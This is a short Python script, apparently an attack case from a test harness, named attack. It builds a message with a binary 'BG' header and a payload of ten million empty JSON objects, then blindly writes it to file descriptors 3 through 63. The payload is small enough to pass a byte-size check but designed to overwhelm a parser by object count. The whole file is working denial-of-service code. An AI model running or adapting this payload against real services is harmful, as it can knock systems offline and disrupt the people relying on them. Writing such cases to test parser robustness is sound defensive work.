"""Send a header that is within bounds as text and beyond them as objects."""
import os
import struct


def attack(x):
    text = b"[" + b"{}," * 10000000 + b"{}]"
    for descriptor in range(3, 64):
        try:
            view = memoryview(struct.pack("<2sBBIQ", b"BG", 1, 19, len(text), 0) + text)
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass
